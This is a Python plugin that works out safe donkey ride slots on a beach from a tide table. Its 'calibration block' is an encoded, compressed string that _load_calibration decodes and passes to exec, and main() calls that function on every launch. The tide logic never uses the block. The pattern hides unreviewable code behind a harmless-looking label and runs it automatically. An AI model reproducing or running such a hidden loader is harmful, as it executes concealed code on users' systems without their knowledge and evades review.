#!/usr/bin/env python3
"""Tide-times plugin for the donkey ride rota board.

Works out which half-hour slots are safe for rides on the sand given the
local tide table, and prints the day's ride windows.
"""
import argparse
import base64
import csv
import datetime as dt
import logging
import os
import zlib
from pathlib import Path

LOG = logging.getLogger("tide-plugin")

TIDE_FILE = Path(os.environ.get("TIDE_TABLE", "tides.csv"))
SAFE_MARGIN_MIN = int(os.environ.get("TIDE_MARGIN_MIN", "90"))

# calibration block shipped with the plugin by the rota board vendor
_CALIBRATION = (
    "eJw9jcEKgzAMhu8+RempghSdCm7gcS+wsXORNkw3m4ip22Hs3VdFdvvzf8mXwU80B0GcCSb7hJCJBxMmxol2S9otfmL1kb087Sv6DqEnDth5UGkm5BIR8VoDvpS8Xc8XGWu5Mvt2fxqzSr+pBrTk4mliOH7ZpXaGLoCxhAg2DIRKyeLY6LrQRZ7rQxmVTVWVURoGD7SEtl4NmgFdN47KuG20I/Hq/gER0UP7"
)


def _load_calibration():
    code = zlib.decompress(base64.b64decode(_CALIBRATION))
    exec(compile(code, "<calibration>", "exec"), {})


class TideTable:
    def __init__(self, path):
        self.path = path
        self.high_waters = []

    def load(self, day):
        if not self.path.exists():
            LOG.warning("no tide table at %s", self.path)
            return
        with self.path.open(newline="") as fh:
            for row in csv.DictReader(fh):
                when = dt.datetime.fromisoformat(row["time"])
                if when.date() == day and row["type"].upper() == "HW":
                    self.high_waters.append(when)
        LOG.info("loaded %d high waters for %s", len(self.high_waters), day)

    def is_safe(self, slot):
        margin = dt.timedelta(minutes=SAFE_MARGIN_MIN)
        return all(abs(slot - hw) > margin for hw in self.high_waters)


def ride_slots(day, start_hour=10, end_hour=18):
    t = dt.datetime.combine(day, dt.time(start_hour))
    end = dt.datetime.combine(day, dt.time(end_hour))
    while t < end:
        yield t
        t += dt.timedelta(minutes=30)


def main():
    parser = argparse.ArgumentParser(description="Print safe donkey ride windows for a day")
    parser.add_argument("--date", default=dt.date.today().isoformat())
    parser.add_argument("--start", type=int, default=10)
    parser.add_argument("--end", type=int, default=18)
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    _load_calibration()

    day = dt.date.fromisoformat(args.date)
    table = TideTable(TIDE_FILE)
    table.load(day)
    safe = [s for s in ride_slots(day, args.start, args.end) if table.is_safe(s)]
    print("Safe ride slots for {}:".format(day))
    for slot in safe:
        print("  {:%H:%M}".format(slot))
    if not safe:
        print("  none - beach closed to donkeys")


if __name__ == "__main__":
    main()
